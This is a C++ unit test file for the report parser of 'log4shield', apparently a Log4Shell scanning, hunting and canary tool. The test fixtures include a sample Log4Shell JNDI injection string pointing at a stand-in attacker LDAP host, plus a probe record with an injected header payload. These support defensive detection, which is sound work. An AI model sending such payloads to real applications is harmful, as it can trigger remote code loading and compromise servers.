#include "fleet/parse.h"

#include <cstdint>
#include <string>

#include <gtest/gtest.h>

namespace l4s::fleet {
namespace {

const char* kScanJson = R"({"tool":{"name":"log4shield","version":"0.1.0"},"host":"web01",
 "started":"2026-11-20T10:00:00Z","finished":"2026-11-20T10:00:05Z","roots":["/opt"],
 "stats":{"files":3,"archives":2,"bytes_read":10,"errors":1,"seconds":0.1},
 "findings":[{"path":"/opt/a.jar","location":"/opt/a.jar","component":"log4j-core","version":"2.14.1",
   "version_range":null,"version_source":"pom","status":"vulnerable","cves":["CVE-2021-44228"],"mitigated_cves":[],
   "severity":"critical","shaded_prefix":null,"metadata_mismatch":false,"claimed_version":null,"evidence":["x"]}],
 "errors":[{"location":"/opt/bad.jar","error":"truncated"}]})";

ParseOptions opts(const std::string& host = "") { return {"test.json", host, "2026-11-28T00:00:00Z", ""}; }

TEST(ParseTest, ScanJson) {
  auto p = parse_report(kScanJson, opts());
  ASSERT_TRUE(p.ok()) << p.error();
  EXPECT_EQ(p->report.kind, "scan");
  EXPECT_EQ(p->report.host, "web01");
  EXPECT_EQ(p->report.time, "2026-11-20T10:00:05Z");
  ASSERT_EQ(p->findings.size(), 1u);
  EXPECT_EQ(p->findings[0].f.status, FindingStatus::kVulnerable);
  EXPECT_EQ(*p->findings[0].f.version, "2.14.1");
  EXPECT_EQ(p->findings[0].host, "web01");
  EXPECT_EQ(p->errors.size(), 1u);
  EXPECT_EQ(p->report.roots, std::vector<std::string>{"/opt"});
}

TEST(ParseTest, HashIgnoresWhitespaceButNotContentOrHost) {
  auto a = parse_report(kScanJson, opts());
  std::string spaced = std::string(kScanJson) + "\n\n  ";
  auto b = parse_report(spaced, opts());
  auto c = parse_report(kScanJson, opts("web02"));
  std::string other = kScanJson;
  other.replace(other.find("2.14.1"), 6, "2.14.0");
  auto d = parse_report(other, opts());
  ASSERT_TRUE(a.ok() && b.ok() && c.ok() && d.ok());
  EXPECT_EQ(a->report.hash, b->report.hash);
  EXPECT_NE(a->report.hash, c->report.hash);
  EXPECT_NE(a->report.hash, d->report.hash);
  EXPECT_EQ(c->report.host, "web02");
}

TEST(ParseTest, FixReportIsRecognised) {
  std::string fix = kScanJson;
  fix.replace(fix.find("\"evidence\":[\"x\"]"), 16, R"("evidence":["fixed by log4shield: removed JndiLookup.class"])");
  auto p = parse_report(fix, opts());
  ASSERT_TRUE(p.ok());
  EXPECT_EQ(p->report.kind, "fix");
}

TEST(ParseTest, HuntJsonl) {
  std::string text =
      R"({"type":"detection","file":"/var/log/a.log","line":3,"offset":120,"timestamp":"2021-12-10T12:01:02Z","source_ip":"198.51.100.7","raw":"GET /${jndi:ldap://evil.example:1389/a}","layers":["url"],"resolved":"x","jndi":{"name":"ldap://evil.example:1389/a","scheme":"ldap","host":"evil.example","port":1389,"path":"/a","remote":true},"jndi_targets":[{"name":"ldap://evil.example:1389/a","scheme":"ldap","host":"evil.example","port":1389,"path":"/a","remote":true}],"techniques":["nested"],"exfiltrates":[],"decoded_command":null,"verdict":"reaches_jndi_2.14","severity":"critical"})"
      "\n"
      R"({"type":"summary","tool":{"name":"log4shield","version":"0.1.0"},"host":"app7","started":"2026-11-28T01:00:00Z","finished":"2026-11-28T01:00:01Z","roots":["/var/log"],"stats":{"files":1}})"
      "\n";
  auto p = parse_report(text, opts());
  ASSERT_TRUE(p.ok()) << p.error();
  EXPECT_EQ(p->report.kind, "hunt");
  EXPECT_EQ(p->report.host, "app7");
  ASSERT_EQ(p->detections.size(), 1u);
  EXPECT_EQ(p->detections[0].host, "app7");
  ASSERT_EQ(p->detections[0].jndi.size(), 1u);
  EXPECT_EQ(p->detections[0].jndi[0].host, "evil.example");
  EXPECT_EQ(p->detections[0].jndi[0].port, 1389);
  EXPECT_EQ(p->detections[0].verdict, "reaches_jndi_2.14");
}

TEST(ParseTest, CanaryAndProbe) {
  std::string canary =
      R"({"time":"2026-11-20T10:00:00.123Z","protocol":"ldap","peer":"10.0.0.5:40000","listener":"0.0.0.0:1389","token":"abc","name":"abc/x","extras":[],"detail":"search","id":1})"
      "\n";
  auto c = parse_report(canary, opts("canary1"));
  ASSERT_TRUE(c.ok()) << c.error();
  EXPECT_EQ(c->report.kind, "canary");
  EXPECT_EQ(c->report.host, "canary1");
  ASSERT_EQ(c->callbacks.size(), 1u);
  EXPECT_EQ(c->callbacks[0].peer, "10.0.0.5:40000");
  std::string probe =
      R"({"type":"hit","target":"http://app7:8080/login","point":"header:User-Agent","variant":"ldap","token":"t1","payload":"${jndi:...}","callbacks":[{"protocol":"ldap","peer":"10.0.0.7:1","time":"2026-11-20T10:00:01.000Z","latency_ms":5,"name":"t1","extras":[]}]})"
      "\n"
      R"({"type":"target","target":"http://app7:8080/login","vulnerable":true,"sent":40,"failed":0,"hits":1,"http_statuses":[200]})"
      "\n";
  auto p = parse_report(probe, opts());
  ASSERT_TRUE(p.ok()) << p.error();
  EXPECT_EQ(p->report.kind, "probe");
  ASSERT_EQ(p->probes.size(), 1u);
  EXPECT_EQ(p->probes[0].target_host, "app7");
  EXPECT_TRUE(p->probes[0].vulnerable);
  EXPECT_EQ(p->probes[0].first_callback, "2026-11-20T10:00:01.000Z");
}

TEST(ParseTest, RejectsGarbageAndMixtures) {
  EXPECT_FALSE(parse_report("hello\n", opts()).ok());
  EXPECT_FALSE(parse_report("", opts()).ok());
  EXPECT_FALSE(parse_report("{\"type\":\"finding\",\"location\":\"x\"}\n{\"type\":\"detection\"}\n", opts()).ok());
  EXPECT_FALSE(parse_report("{\"something\":1}\n", opts()).ok());
}

TEST(ParseTest, TypeConfusedJsonIsAnErrorNotAnException) {
  for (const char* text : {"{\"type\":1}\n", "{\"type\":\"finding\",\"path\":1}\n",
                           "{\"findings\":[{\"metadata_mismatch\":\"no\"}]}",
                           "{\"type\":\"target\",\"target\":\"http://a\",\"vulnerable\":1}\n"}) {
    EXPECT_NO_THROW({ auto p = parse_report(text, opts()); (void)p; }) << text;
  }
  auto p = parse_report("{\"type\":\"finding\",\"path\":1}\n", opts());
  ASSERT_FALSE(p.ok());
  EXPECT_EQ(p.error(), "test.json:1: \"path\" is not a string");
}

// Found by tests/robustness/no_abort.py: nesting deeper than the stack allows
// crashed the import when the parsed document was serialised again (dump is
// recursive). A report is never nested that deep: refuse it, naming the line.
TEST(ParseTest, DeepNestingIsAnErrorNotACrash) {
  const std::string deep = std::string(100000, '[') + std::string(100000, ']');
  for (const std::string& text :
       {"{\"findings\":" + deep + "}", "{\"type\":\"detection\",\"x\":" + deep + "}\n",
        "{\"type\":" + deep + "}\n", "{\"protocol\":\"ldap\",\"peer\":\"p\",\"extras\":" + deep + "}\n",
        "{\"detections\":[{\"layers\":[" + deep + "]}]}"}) {
    auto p = parse_report(text, opts());
    ASSERT_FALSE(p.ok()) << text.substr(0, 40);
    EXPECT_EQ(p.error().rfind("test.json:1: ", 0), 0u) << p.error();
    EXPECT_NE(p.error().find("nested deeper than"), std::string::npos) << p.error();
  }
  // Nesting as deep as real reports is fine.
  auto ok = parse_report("{\"type\":\"detection\",\"x\":[[[[[[[[{\"a\":[]}]]]]]]]]}\n", opts());
  EXPECT_TRUE(ok.ok()) << ok.error();
}

// Numbers outside int64 (1e300, -1e300, 2^64-1) are clamped, not cast with
// undefined behaviour.
TEST(ParseTest, HugeNumbersAreClamped) {
  auto p = parse_report(
      "{\"type\":\"detection\",\"file\":\"f\",\"line\":1e300,\"offset\":-1e300}\n"
      "{\"type\":\"detection\",\"file\":\"g\",\"line\":18446744073709551615,\"offset\":1.5}\n",
      opts());
  ASSERT_TRUE(p.ok()) << p.error();
  ASSERT_EQ(p->detections.size(), 2u);
  EXPECT_EQ(p->detections[0].line, INT64_MAX);
  EXPECT_EQ(p->detections[0].offset, INT64_MIN);
  EXPECT_EQ(p->detections[1].line, INT64_MAX);
  EXPECT_EQ(p->detections[1].offset, 1);
}

}  // namespace
}  // namespace l4s::fleet
